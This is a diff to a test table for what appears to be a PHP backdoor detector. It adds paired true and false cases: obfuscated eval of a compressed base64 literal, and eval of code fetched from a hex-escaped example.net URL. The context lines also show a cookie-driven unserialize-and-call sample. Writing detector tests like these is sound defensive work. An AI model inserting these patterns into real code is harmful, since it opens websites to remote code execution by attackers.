@@ -223,4 +223,25 @@ CASES: list[tuple[str, bytes, bool]] = [
         b"<?php $d = unserialize(base64_decode($_COOKIE['d']));\n$d['f']($d['a']);",
         True,
     ),
+    (
+        "SPAMGEAR_BACKDOOR_PackedLiteralEvalVar",
+        b"<?php $e = gzuncompress(base64_decode('eJzLSM3JyVcozy/KSQEAGgQEXQ=='));\n@eval($e);",
+        True,
+    ),
+    (
+        "SPAMGEAR_BACKDOOR_PackedLiteralEvalVar",
+        b"<?php $font = gzuncompress(base64_decode('eJzLSM3JyVcozy/KSQEAGgQEXQ=='));\n"
+        b"$pdf->addFont('x', $font);",
+        False,
+    ),
+    (
+        "SPAMGEAR_BACKDOOR_EscapedUrlFetchEval",
+        b'<?php $u = "\\x68\\x74\\x74\\x70://example.net/p.txt";\neval(file_get_contents($u));',
+        True,
+    ),
+    (
+        "SPAMGEAR_BACKDOOR_EscapedUrlFetchEval",
+        b'<?php $u = "http://example.net/feed.json";\n$d = json_decode(file_get_contents($u));',
+        False,
+    ),
 ]
